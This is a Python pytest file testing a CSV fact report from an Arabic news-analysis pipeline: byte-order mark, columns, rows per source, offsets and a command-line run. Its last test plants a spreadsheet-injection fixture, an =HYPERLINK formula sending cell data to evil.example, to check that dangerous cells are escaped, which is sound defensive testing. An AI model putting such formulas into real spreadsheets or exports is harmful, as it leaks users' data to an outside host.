"""The CSV of facts: one row per fact and source that reports it, UTF-8 with BOM for spreadsheets."""

import csv
import subprocess
import sys

import pytest

from core.pipeline import analyze_folder
from core.report.csv_report import COLUMNS, write_csv


@pytest.fixture(scope="module")
def analysis(seeds_dir):
    return analyze_folder(seeds_dir)


@pytest.fixture(scope="module")
def csv_path(analysis, tmp_path_factory):
    path = tmp_path_factory.mktemp("csv") / "facts.csv"
    write_csv(analysis, path)
    return path


def _rows(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_the_file_starts_with_a_utf8_byte_order_mark(csv_path):
    assert csv_path.read_bytes()[:3] == b"\xef\xbb\xbf"


def test_it_opens_with_csv_and_has_the_documented_columns(csv_path):
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        assert tuple(next(csv.reader(f))) == COLUMNS


def test_one_row_per_fact_and_source(analysis, csv_path):
    mentions = {m.id: m for m in analysis.mentions}
    expected = {(f.id, mentions[i].doc) for f in analysis.facts for i in f.mentions}
    rows = _rows(csv_path)
    assert len(rows) == len(expected)
    assert {(r["fact"], r["article"]) for r in rows} == expected


def test_a_conflict_row_gives_the_sources_value_and_its_arabic_sentence(csv_path):
    rows = [r for r in _rows(csv_path) if r["status"] == "conflict" and r["counted"] == "bus"]
    by_article = {r["article"]: r for r in rows}
    assert by_article["d2"]["values"] == "11"
    assert "11 حافلة" in by_article["d2"]["mentions"]
    assert "11 حافلة" in by_article["d2"]["sentence"]


def test_offsets_point_at_the_mentions_text(analysis, csv_path):
    docs = {d.id: d for d in analysis.documents}
    for row in _rows(csv_path):
        texts = row["mentions"].split(" | ")
        spans = [tuple(map(int, s.split("-"))) for s in row["offsets"].split()]
        assert [docs[row["article"]].text[s:e] for s, e in spans] == texts


def test_analyze_writes_both_reports_from_the_command_line(repo_root, seeds_dir, tmp_path):
    html_path, csv_path = tmp_path / "report.html", tmp_path / "facts.csv"
    done = subprocess.run(
        [
            sys.executable,
            str(repo_root / "main.py"),
            "analyze",
            str(seeds_dir),
            "--quiet",
            "--html",
            str(html_path),
            "--csv",
            str(csv_path),
        ],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    assert "http" not in html_path.read_text(encoding="utf-8").lower()
    assert len(_rows(csv_path)) > 0


def test_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
    (tmp_path / "=cmd.txt").write_text(
        '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")\n\n'
        "+قتل 25 شخصا في الهجوم.\n-أصيب 30 آخرون بجروح.\n@أعلن الجيش مقتل 25 مسلحا.\n",
        encoding="utf-8",
    )
    (tmp_path / "b.txt").write_text(
        "\tعنوان الخبر\n\nقتل 25 شخصا في الهجوم على القرية.\n\rأصيب 30 آخرون بجروح.\n", encoding="utf-8"
    )
    out = tmp_path / "facts.csv"
    write_csv(analyze_folder(tmp_path), out)
    rows = _rows(out)
    cells = [cell for row in rows for cell in row.values()]
    assert rows and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=cmd.txt" in {row["file"] for row in rows}
